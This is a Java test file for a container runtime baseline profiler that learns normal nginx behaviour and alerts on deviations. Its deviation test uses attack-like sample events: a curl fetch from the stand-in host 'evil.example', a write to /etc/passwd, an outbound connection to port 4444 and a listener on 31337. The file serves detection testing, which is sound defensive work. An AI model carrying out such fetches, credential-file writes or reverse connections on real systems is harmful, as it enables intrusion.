package dev.containersec.runtime;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.containersec.api.Alert;
import dev.containersec.api.InvalidInputException;
import dev.containersec.api.LimitExceededException;
import dev.containersec.api.Priority;
import dev.containersec.api.ProcessAncestor;
import dev.containersec.api.ProcessContext;
import dev.containersec.api.RuntimeEvent;
import dev.containersec.api.ScanLimits;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class BaselineProfilerTest {
    private static final int O_WRONLY = 1;

    static ProcessContext nginx() {
        return Events.containerShell().comm("nginx").exe("/usr/sbin/nginx").args("nginx", "-g", "daemon off;")
                .ancestry(List.of(new ProcessAncestor(4100, "containerd-shim", "/usr/bin/containerd-shim"))).build();
    }

    static List<RuntimeEvent> normal() {
        ProcessContext p = nginx();
        List<RuntimeEvent> events = new ArrayList<>();
        events.add(Events.exec(p));
        events.add(Events.exec(Events.containerShell().comm("sleep").exe("/usr/bin/sleep").args("sleep", "30")
                .build()));
        events.add(Events.open(p, "/var/cache/nginx/client_temp/0000001", O_WRONLY));
        events.add(Events.open(p, "/var/log/nginx/access.log", O_WRONLY));
        events.add(Events.open(p, "/etc/nginx/nginx.conf", 0));
        events.add(Events.connect(p, "10.0.0.5", 443));
        events.add(Events.listen(p, 80));
        return events;
    }

    static BaselineProfile learn(List<RuntimeEvent> events) {
        BaselineProfiler learner = BaselineProfiler.builder().learn();
        events.forEach(e -> assertThat(learner.accept(e)).isEmpty());
        return learner.profile();
    }

    static List<Alert> enforce(BaselineProfile profile, List<RuntimeEvent> events) {
        BaselineProfiler enforcer = BaselineProfiler.builder().hostname("node-1").enforce(profile);
        List<Alert> alerts = new ArrayList<>();
        events.forEach(e -> alerts.addAll(enforcer.accept(e)));
        return alerts;
    }

    @Test
    void learnThenEnforce_sameEvents_noAlerts() {
        BaselineProfile profile = learn(normal());
        assertThat(enforce(profile, normal())).isEmpty();
        assertThat(enforce(BaselineProfile.parse("p", profile.toJson(), ScanLimits.defaults()), normal())).isEmpty();
    }

    @Test
    void learn_recordsGeneralisedShapes_keyedByImage() {
        BaselineProfile.Workload w = learn(normal()).workloads().get("docker.io/library/nginx");
        assertThat(w.of(BaselineCategory.PROCESS)).containsExactly("nginx -g daemon?off;", "sleep <num>");
        assertThat(w.of(BaselineCategory.PARENT)).containsExactly("containerd-shim -> nginx", "nginx -> sleep");
        assertThat(w.of(BaselineCategory.FILE_WRITE)).containsExactly("/var/cache/nginx/client_temp/<num>",
                "/var/log/nginx/access.log");
        assertThat(w.of(BaselineCategory.EGRESS)).containsExactly("tcp 10.0.0.5/32 443");
        assertThat(w.of(BaselineCategory.LISTEN)).containsExactly("tcp 80");
    }

    @Test
    void enforce_eachNewBehaviour_exactlyOneAlertWithFields() {
        BaselineProfile profile = learn(normal());
        ProcessContext p = nginx();
        ProcessContext curl = Events.containerShell().comm("curl").exe("/usr/bin/curl")
                .args("curl", "-s", "http://evil.example/x").build();
        ProcessContext shFromNginx = Events.containerShell().comm("sleep").exe("/usr/bin/sleep").args("sleep", "5")
                .ancestry(List.of(new ProcessAncestor(1, "bash", "/bin/bash"))).build();
        List<RuntimeEvent> deviating = List.of(Events.exec(curl), Events.exec(curl),
                Events.exec(shFromNginx),
                Events.open(p, "/etc/passwd", O_WRONLY), Events.open(p, "/etc/passwd", O_WRONLY),
                Events.connect(p, "203.0.113.9", 4444), Events.connect(p, "203.0.113.9", 4444),
                Events.listen(p, 31337));
        List<Alert> alerts = enforce(profile, deviating);
        assertThat(alerts).extracting(Alert::rule).containsExactly(
                "Baseline deviation: new process", "Baseline deviation: new parent",
                "Baseline deviation: new parent",
                "Baseline deviation: new file write", "Baseline deviation: new egress",
                "Baseline deviation: new listening port");
        Alert proc = alerts.get(0);
        assertThat(proc.priority()).isEqualTo(Priority.WARNING);
        assertThat(proc.hostname()).isEqualTo("node-1");
        assertThat(proc.outputFields().get("baseline.new")).isEqualTo(Optional.of("curl -s http://evil.example/x"));
        assertThat(proc.outputFields().get("baseline.known")).isEqualTo(Optional.of("[nginx -g daemon?off;, sleep <num>]"));
        assertThat(proc.outputFields().get("baseline.workload")).isEqualTo(Optional.of("docker.io/library/nginx"));
        assertThat(alerts.get(2).outputFields().get("baseline.new")).isEqualTo(Optional.of("bash -> sleep"));
        assertThat(alerts.get(3).outputFields().get("baseline.new")).isEqualTo(Optional.of("/etc/passwd"));
        assertThat(alerts.get(4).outputFields().get("baseline.new")).isEqualTo(Optional.of("tcp 203.0.113.9/32 4444"));
        assertThat(alerts.get(4).output()).contains("Warning Baseline deviation: new egress");
        assertThat(alerts.get(5).outputFields().get("baseline.known")).isEqualTo(Optional.of("[tcp 80]"));
    }

    @Test
    void enforce_unknownWorkload_alertsOnce() {
        BaselineProfile profile = learn(normal());
        ProcessContext other = Events.containerShell().containerImageRepository("docker.io/library/redis").build();
        List<Alert> alerts = enforce(profile, List.of(Events.exec(other), Events.exec(other)));
        assertThat(alerts).extracting(Alert::rule).containsExactly(BaselineProfiler.UNKNOWN_WORKLOAD_RULE);
    }

    @Test
    void learn_workloadKey_fallsBackToContainerIdThenName() {
        BaselineProfiler b = BaselineProfiler.builder().workloadName("shop/checkout").learn();
        ProcessContext noImage = ProcessContext.builder().comm("x").exe("/x").args("x").containerId("abcdefabcdef")
                .build();
        assertThat(b.workloadKey(noImage)).isEqualTo("abcdefabcdef");
        assertThat(b.workloadKey(Events.hostProcess("sshd"))).isEqualTo("shop/checkout");
    }

    @Test
    void learn_manyFilesInOneDirectory_generalisedToDirectory() {
        ProcessContext p = nginx();
        List<RuntimeEvent> events = new ArrayList<>();
        for (int i = 0; i < 40; i++) {
            events.add(Events.open(p, "/tmp/cache/file-" + (char) ('a' + i % 26) + i, O_WRONLY));
        }
        BaselineProfile profile = learn(events);
        assertThat(profile.workloads().get("docker.io/library/nginx").of(BaselineCategory.FILE_WRITE))
                .containsExactly("/tmp/cache/*");
        assertThat(enforce(profile, List.of(Events.open(p, "/tmp/cache/new/deeper", O_WRONLY)))).isEmpty();
        assertThat(enforce(profile, List.of(Events.open(p, "/tmp/other", O_WRONLY)))).hasSize(1);
    }

    @Test
    void learn_manyHostsInOneNetwork_generalisedToNetwork() {
        ProcessContext p = nginx();
        List<RuntimeEvent> events = new ArrayList<>();
        for (int i = 1; i <= 20; i++) {
            events.add(Events.connect(p, "10.1.2." + i, 5432));
        }
        BaselineProfile profile = learn(events);
        assertThat(profile.workloads().get("docker.io/library/nginx").of(BaselineCategory.EGRESS))
                .containsExactly("tcp 10.1.2.0/24 5432");
        assertThat(enforce(profile, List.of(Events.connect(p, "10.1.2.200", 5432)))).isEmpty();
        assertThat(enforce(profile, List.of(Events.connect(p, "10.1.3.1", 5432)))).hasSize(1);
    }

    @Test
    void learn_capPerCategory_countsOverflow() {
        BaselineProfiler b = BaselineProfiler.builder().maxEntriesPerCategory(3).learn();
        ProcessContext p = nginx();
        for (int i = 0; i < 10; i++) {
            b.accept(Events.listen(p, 1000 + i));
        }
        BaselineProfile.Workload w = b.profile().workloads().get("docker.io/library/nginx");
        assertThat(w.of(BaselineCategory.LISTEN)).hasSize(3);
        assertThat(w.overflow().get(BaselineCategory.LISTEN)).isEqualTo(7L);
        assertThat(b.profile().toJson()).contains("\"listening\" : 7");
    }

    @Test
    void enforce_deduplicationIsBounded() {
        BaselineProfile profile = learn(normal());
        BaselineProfiler enforcer = BaselineProfiler.builder().maxRememberedDeviations(2).enforce(profile);
        ProcessContext p = nginx();
        int alerts = 0;
        for (int round = 0; round < 2; round++) {
            for (int port = 1; port <= 3; port++) {
                alerts += enforcer.accept(Events.listen(p, port)).size();
            }
        }
        assertThat(alerts).isEqualTo(6); // three distinct, two remembered: the oldest is forgotten each time
    }

    @Test
    void toJson_isSortedAndVersioned() {
        String json = learn(normal()).toJson();
        assertThat(json).startsWith("{\n  \"format\" : \"containersec-baseline\",\n  \"version\" : 1,");
        assertThat(json.indexOf("\"processes\"")).isLessThan(json.indexOf("\"parents\""));
        assertThat(json.indexOf("nginx -g")).isLessThan(json.indexOf("sleep <num>"));
    }

    @Test
    void parse_hostileInputs_typedErrors() {
        ScanLimits limits = ScanLimits.defaults();
        String ok = "{\"format\":\"containersec-baseline\",\"version\":1,\"workloads\":{}}";
        assertThat(BaselineProfile.parse("p", ok, limits).workloads()).isEmpty();
        for (String bad : List.of("", "[]", "null", "{\"format\":\"x\",\"version\":1,\"workloads\":{}}",
                "{\"format\":\"containersec-baseline\",\"version\":2,\"workloads\":{}}",
                "{\"format\":\"containersec-baseline\",\"version\":1,\"workloads\":{},\"extra\":1}",
                "{\"format\":\"containersec-baseline\",\"format\":\"containersec-baseline\",\"version\":1,\"workloads\":{}}",
                "{\"format\":\"containersec-baseline\",\"version\":1,\"workloads\":{\"w\":{\"egress\":[\"tcp nope 1\"]}}}",
                "{\"format\":\"containersec-baseline\",\"version\":1,\"workloads\":{\"w\":{\"listening\":[\"tcp 70000\"]}}}",
                "{\"format\":\"containersec-baseline\",\"version\":1,\"workloads\":{\"w\":{\"fileWrites\":[\"rel\"]}}}",
                "{\"format\":\"containersec-baseline\",\"version\":1,\"workloads\":{\"w\":{\"processes\":[1]}}}",
                "{\"format\":\"containersec-baseline\",\"version\":1,\"workloads\":{\"w\":{\"overflow\":{\"processes\":-1}}}}",
                "{\"format\":\"containersec-baseline\",\"version\":1,\"workloads\":{\"w\":{\"processes\":[\"a\\u0000\"]}}}",
                ok + " trailing")) {
            assertThatThrownBy(() -> BaselineProfile.parse("p", bad, limits)).as(bad)
                    .isInstanceOf(InvalidInputException.class);
        }
        assertThatThrownBy(() -> BaselineProfile.parse("p", "[".repeat(100), limits))
                .isInstanceOf(LimitExceededException.class);
        assertThatThrownBy(() -> BaselineProfile.parse("p", ok, limits.toBuilder().maxDocumentBytes(10).build()))
                .isInstanceOf(LimitExceededException.class);
        String many = "{\"format\":\"containersec-baseline\",\"version\":1,\"workloads\":{\"w\":{\"listening\":"
                + "[\"tcp 1\",\"tcp 2\",\"tcp 3\"]}}}";
        assertThatThrownBy(() -> BaselineProfile.parse("p", many, limits.toBuilder().maxEntriesPerImage(2).build()))
                .isInstanceOf(LimitExceededException.class);
    }
}
